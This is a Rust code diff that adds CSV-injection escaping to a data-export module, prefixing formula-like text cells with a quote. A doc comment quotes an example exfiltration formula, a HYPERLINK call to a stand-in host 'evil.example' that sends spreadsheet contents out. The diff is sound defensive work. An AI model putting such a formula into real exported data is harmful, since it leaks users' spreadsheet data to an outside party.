@@ -289,10 +289,38 @@ pub fn write_parquet(path: &Path, df: &mut DataFrame) -> Result<()> {
     Ok(())
 }
 
+/// Writes a frame as CSV to a file (see [`write_csv_to`]).
 pub fn write_csv(path: &Path, df: &mut DataFrame) -> Result<()> {
     let mut file = File::create(path).map_err(io_err(path))?;
-    CsvWriter::new(&mut file).include_header(true).finish(df).map_err(perr(path))?;
+    write_csv_to(&mut file, df).map_err(perr(path))?;
     Ok(())
+}
+
+/// Writes a frame as CSV with a header line: every CSV cohort writes goes through here. Text cells that a
+/// spreadsheet would run as a formula are made inert (see [`spreadsheet_safe`]); Parquet keeps the text exact.
+pub fn write_csv_to(out: &mut impl std::io::Write, df: &DataFrame) -> PolarsResult<()> {
+    let mut cols = Vec::with_capacity(df.width());
+    for c in df.columns() {
+        if c.dtype() == &DataType::String {
+            let safe: StringChunked = c.str()?.iter().map(|v| v.map(spreadsheet_safe)).collect();
+            cols.push(safe.with_name(c.name().clone()).into_column());
+        } else {
+            cols.push(c.clone());
+        }
+    }
+    let mut safe = DataFrame::new(df.height(), cols)?;
+    CsvWriter::new(out).include_header(true).finish(&mut safe)
+}
+
+/// A text cell as a spreadsheet may show it: one starting with `=`, `+`, `-`, `@`, a tab or a carriage return
+/// would be run as a formula (a student's answer `=HYPERLINK("http://evil.example/?"&A1,"x")` sends the sheet
+/// away), so it gets a leading `'` (OWASP's rule for CSV injection).
+pub fn spreadsheet_safe(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
 }
 
 /// Reads one frame of a generation.
